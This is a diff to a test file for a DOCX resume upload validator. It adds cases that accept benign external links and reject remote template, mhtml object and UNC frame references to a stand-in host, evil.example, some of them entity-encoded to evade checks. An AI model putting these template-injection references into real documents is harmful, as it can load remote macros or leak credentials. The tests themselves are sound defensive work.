@@ -15,6 +15,11 @@ const document: ZipPart = { name: 'word/document.xml', content: documentXml };
 const parts = (...more: ZipPart[]) => [typesPart(), document, ...more];
 const isAccepted = (bytes: Buffer) => !('problem' in checkResume({ name: 'cv.docx', bytes }));
 
+const relation = (type: string, target: string, mode = 'External'): ZipPart => ({
+  name: 'word/_rels/settings.xml.rels',
+  content: `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+});
+
 const megabyte = 1024 * 1024;
 const zeros = (size: number) => Buffer.alloc(size);
 const picture = { name: 'word/media/image1.png', content: randomBytes(50_000) };
@@ -30,6 +35,10 @@ test.each<[string, Buffer]>([
   ['sizes after the data', buildZip([{ ...typesPart(), flags: 8, localSize: 0 }, document])],
   ['a numbered main part', buildZip([typesPart(), { ...document, name: 'word/document2.xml' }])],
   ['a blank picture that packs well', buildZip(parts({ name: 'word/media/blank.emf', content: zeros(900_000) }))],
+  ['a template on a disk', buildZip(parts(relation('attachedTemplate', 'file:///C:\\Users\\Ann\\Resume.dotx')))],
+  ['links', buildZip(parts(relation('hyperlink', 'https://www.example.com/?a=1&amp;b=2')))],
+  ['a picture on the web', buildZip(parts(relation('image', 'https://www.example.com/me.png')))],
+  ['a theme of its own', buildZip(parts(relation('theme', 'theme/theme1.xml', 'Internal')))],
   ['hundreds of parts', buildZip(parts(...Array.from({ length: 500 }, (_, i) => ({ name: `a${i}`, content: 'a' }))))],
 ])('accepts a document with %s', (_, bytes) => {
   expect(isAccepted(bytes)).toBe(true);
@@ -50,6 +59,12 @@ test.each<[string, Buffer]>([
   ['a macro type in disguise', buildZip([typesPart(macroType.replace('vba', '&#118;ba')), document])],
   ['an ActiveX control', buildZip(parts({ name: 'word/activeX/activeX1.bin', content: 'x' }))],
   ['a macro workbook inside', buildZip(parts({ name: 'word/embeddings/book.xlsm', content: 'x' }))],
+  ['a template on the web', buildZip(parts(relation('attachedTemplate', 'https://evil.example/a.dotm')))],
+  ['a template on a share', buildZip(parts(relation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm')))],
+  ['a template on a host', buildZip(parts(relation('attachedTemplate', 'file://evil.example/a.dotm')))],
+  ['an object on the web', buildZip(parts(relation('oleObject', 'mhtml:http://evil.example/a.html!x')))],
+  ['a frame on the web', buildZip(parts(relation('frame', '\\\\evil.example\\a')))],
+  ['a template in disguise', buildZip(parts(relation('attachedTemplate', '&#104;ttps://evil.example/a.dotm')))],
   ['an encrypted part', buildZip(parts({ ...picture, flags: 1 }))],
   ['an unknown compression', buildZip(parts({ ...picture, method: 12 }))],
   ['10,000 parts', buildZip(parts(...Array.from({ length: 10_000 }, (_, i) => ({ name: `a${i}`, content: 'a' }))))],
